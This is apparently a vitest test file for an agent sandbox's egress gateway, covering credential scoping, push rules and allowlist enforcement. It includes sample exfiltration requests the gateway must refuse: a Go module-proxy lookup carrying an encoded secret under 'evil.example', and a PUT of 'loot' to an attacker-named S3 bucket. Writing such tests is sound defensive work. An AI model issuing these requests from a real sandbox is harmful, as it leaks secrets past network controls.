/**
 * The grant: what the gateway may do for a sandbox given what the agent
 * knows right now. A missing fact makes it smaller: no running turn, no
 * credential at all; no write policy yet, no push and no write token. Its
 * allowlist, through the real gateway: Go's module proxy refused by
 * default, a GET-only entry refusing a POST, a customer's host under a
 * broader wildcard refused, a policy of plain strings read as before.
 */
import { describe, expect, it } from "vitest";
import { DEFAULT_ALLOW, type AllowRule } from "../../src/run/host-allowlist";
import { EgressGateway, type EgressRefusal } from "../../src/egress/gateway";
import { endpointsFor } from "../../src/egress/github-routes";
import { egressOpen, grantFor, type EgressGrant } from "../../src/egress/grant";
import { GITHUB_COM } from "../../src/shared/github-urls";

const TOKENS = { readToken: "ghs_READ", writeToken: "ghs_WRITE" };
const RUN = { submissionId: "sub-1", repo: "Octo/Repo", ...TOKENS };

describe("grantFor", () => {
  it("grants nothing credentialed without a running turn", () => {
    const grant = grantFor({ ...TOKENS, pushBranch: "agent/issue-7", headRepo: "fork/repo" });
    expect(grant).toEqual({ readRepos: [], pushBranch: null, readToken: "", writeToken: "", allow: grant.allow, open: false, registries: [] });
    expect(grant).not.toHaveProperty("submissionId");
    expect(grant).not.toHaveProperty("repo");
  });

  it("grants nothing credentialed with a submission but no repository", () => {
    const grant = grantFor({ ...TOKENS, submissionId: "sub-1", pushBranch: "agent/issue-7" });
    expect(grant).toMatchObject({ readRepos: [], pushBranch: null, readToken: "", writeToken: "" });
    expect(grant).not.toHaveProperty("submissionId");
  });

  it("grants nothing credentialed with a repository but no submission", () => {
    const grant = grantFor({ ...TOKENS, repo: "octo/repo", pushBranch: "agent/issue-7" });
    expect(grant).toMatchObject({ readRepos: [], pushBranch: null, readToken: "", writeToken: "" });
    expect(grant).not.toHaveProperty("repo");
  });

  it("is read-only while no write policy is known (pushBranch undefined)", () => {
    expect(grantFor(RUN)).toEqual({
      submissionId: "sub-1",
      repo: "octo/repo",
      readRepos: ["octo/repo"],
      pushBranch: null,
      readToken: "ghs_READ",
      writeToken: "",
      allow: grantFor(RUN).allow,
      open: false,
      registries: []
    });
  });

  it("carries another repository a git registry entry names into the read repositories, and a policy's own push refusal, only while a turn runs", () => {
    expect(grantFor({ ...RUN, alsoRead: ["Octo/Shared"], pushRefusal: "push refused: signed" })).toMatchObject({ readRepos: ["octo/repo", "octo/shared"], pushRefusal: "push refused: signed" });
    const idle = grantFor({ ...TOKENS, alsoRead: ["octo/shared"], pushRefusal: "push refused: signed" });
    expect(idle.readRepos).toEqual([]);
    expect(idle).not.toHaveProperty("pushRefusal");
  });

  it("is read-only when the policy allows no push", () => {
    expect(grantFor({ ...RUN, pushBranch: null })).toMatchObject({ pushBranch: null, readToken: "ghs_READ", writeToken: "" });
  });

  it("keeps the write token with a push branch", () => {
    expect(grantFor({ ...RUN, pushBranch: "agent/issue-7" })).toMatchObject({
      repo: "octo/repo",
      pushBranch: "agent/issue-7",
      readToken: "ghs_READ",
      writeToken: "ghs_WRITE"
    });
  });

  it("adds a pull request's head repository to the reads, lowercased", () => {
    expect(grantFor({ ...RUN, headRepo: "Fork-Owner/Repo" }).readRepos).toEqual(["octo/repo", "fork-owner/repo"]);
  });

  it("lists the run's repository once when the head is the same repository", () => {
    expect(grantFor({ ...RUN, headRepo: "OCTO/REPO" }).readRepos).toEqual(["octo/repo"]);
  });

  it("allows the defaults read-only, then the repository's entries, then the operator's", () => {
    const grant = grantFor({ ...RUN, repositoryAllow: ["api.example.com"], egressAllow: "Mirror.Corp, https://bad.example, *.com, *.internal.example" });
    const named = grant.allow.slice(DEFAULT_ALLOW.length);
    expect(grant.allow.slice(0, DEFAULT_ALLOW.length).every((entry) => entry.source === "default" && entry.methods?.join() === "GET,HEAD")).toBe(true);
    expect(named).toEqual([
      { pattern: "api.example.com", methods: null, source: "repository" },
      { pattern: "mirror.corp", methods: null, source: "operator" },
      { pattern: "*.internal.example", methods: null, source: "operator" }
    ]);
  });

  it("keeps the allowlist without a running turn", () => {
    const grant = grantFor({ ...TOKENS, egressAllow: "mirror.corp" });
    expect(grant.allow.at(-1)).toEqual({ pattern: "mirror.corp", methods: null, source: "operator" });
  });

  it.each([
    ["open", true],
    [" OPEN ", true],
    ["Open", true],
    [undefined, false],
    ["", false],
    ["allowlist", false],
    ["opened", false],
    ["open,allowlist", false]
  ] as const)("reads EGRESS=%j as open: %s", (egress, open) => {
    expect(egressOpen(egress)).toBe(open);
    expect(grantFor({ ...RUN, ...(egress === undefined ? {} : { egress }) }).open).toBe(open);
  });

  it("keeps GitHub's rules when egress is open: no push without a policy", () => {
    expect(grantFor({ ...RUN, egress: "open" })).toMatchObject({ open: true, pushBranch: null, writeToken: "" });
  });
});

describe("the grant's allowlist, at the gateway", () => {
  /** The real gateway over `grant`, an upstream that answers 200 and records, and the refusals it told. */
  function gatewayFor(grant: EgressGrant) {
    const reached: string[] = [];
    const refusals: EgressRefusal[] = [];
    const gateway = new EgressGateway({
      endpoints: endpointsFor(GITHUB_COM, ""),
      grant: async () => grant,
      upstream: async (request) => {
        reached.push(`${request.method} ${request.url}`);
        return new Response("ok");
      },
      refused: (refusal) => {
        refusals.push(refusal);
      }
    });
    const send = async (method: string, url: string) => {
      const response = await gateway.fetch(new Request(url, { method, ...(method === "POST" || method === "PUT" ? { body: "data" } : {}) }));
      return { status: response.status, text: await response.text() };
    };
    return { send, reached, refusals };
  }

  it("refuses Go's module proxy and checksum database by default, naming how to allow them", async () => {
    const { send, reached, refusals } = gatewayFor(grantFor(RUN));
    const proxy = await send("GET", "https://proxy.golang.org/evil.example/c2VjcmV0/@v/list");
    expect(proxy.status).toBe(403);
    expect(proxy.text).toMatch(/^egress refused: proxy\.golang\.org is not on this run's network allowlist; to allow it, add it to network\.allow/);
    expect((await send("GET", "https://sum.golang.org/lookup/evil.example/x@v1.0.0")).status).toBe(403);
    expect(reached).toEqual([]);
    expect(refusals.map((refusal) => [refusal.host, refusal.method])).toEqual([["proxy.golang.org", "GET"], ["sum.golang.org", "GET"]]);
  });

  it("lets a GET-only entry's host be read, and refuses a POST to it as a method it may not use", async () => {
    const { send, reached, refusals } = gatewayFor(grantFor({ ...RUN, repositoryAllow: [{ host: "proxy.golang.org", methods: ["GET", "HEAD"] }] }));
    expect((await send("GET", "https://proxy.golang.org/github.com/!burnt!sushi/toml/@v/list")).status).toBe(200);
    expect((await send("HEAD", "https://proxy.golang.org/golang.org/x/mod/@v/v0.20.0.info")).status).toBe(200);
    const post = await send("POST", "https://proxy.golang.org/github.com/x/y/@v/list");
    expect(post.status).toBe(403);
    expect(post.text).toMatch(/^egress refused: POST to proxy\.golang\.org is not allowed \(this run may only read from it\)/);
    expect(reached).toEqual([
      "GET https://proxy.golang.org/github.com/!burnt!sushi/toml/@v/list",
      "HEAD https://proxy.golang.org/golang.org/x/mod/@v/v0.20.0.info"
    ]);
    expect(refusals).toEqual([{ submissionId: "sub-1", host: "proxy.golang.org", method: "POST", reason: post.text.trim() }]);
  });

  it("does not let a broader wildcard reach a customer's host under a public suffix below it", async () => {
    const { send, reached } = gatewayFor(grantFor({ ...RUN, repositoryAllow: ["*.amazonaws.com"] }));
    expect((await send("GET", "https://sts.amazonaws.com/")).status).toBe(200);
    expect((await send("PUT", "https://attacker-bucket.s3.amazonaws.com/loot")).status).toBe(403);
    expect((await send("GET", "https://ec2-1-2-3-4.compute-1.amazonaws.com/")).status).toBe(403);
    expect(reached).toEqual(["GET https://sts.amazonaws.com/"]);
  });

  it("reads a policy stored as plain strings (before entries had methods) as it always did: every method", async () => {
    const stored = JSON.parse(JSON.stringify({ pushBranch: null, allow: ["api.example.com", "*.corp.example"] })) as { allow: AllowRule[] };
    const { send, reached } = gatewayFor(grantFor({ ...RUN, repositoryAllow: stored.allow }));
    expect((await send("POST", "https://api.example.com/v1/things")).status).toBe(200);
    expect((await send("DELETE", "https://build.corp.example/cache")).status).toBe(200);
    expect(reached).toHaveLength(2);
  });

  it("keeps a method entry through storage's JSON, and leaves out an entry refused since it was stored", () => {
    const stored = JSON.parse(JSON.stringify([{ host: "proxy.golang.org", methods: ["GET", "HEAD"] }, "*.github.io"])) as AllowRule[];
    expect(grantFor({ ...RUN, repositoryAllow: stored }).allow.slice(DEFAULT_ALLOW.length)).toEqual([
      { pattern: "proxy.golang.org", methods: ["GET", "HEAD"], source: "repository" }
    ]);
  });
});
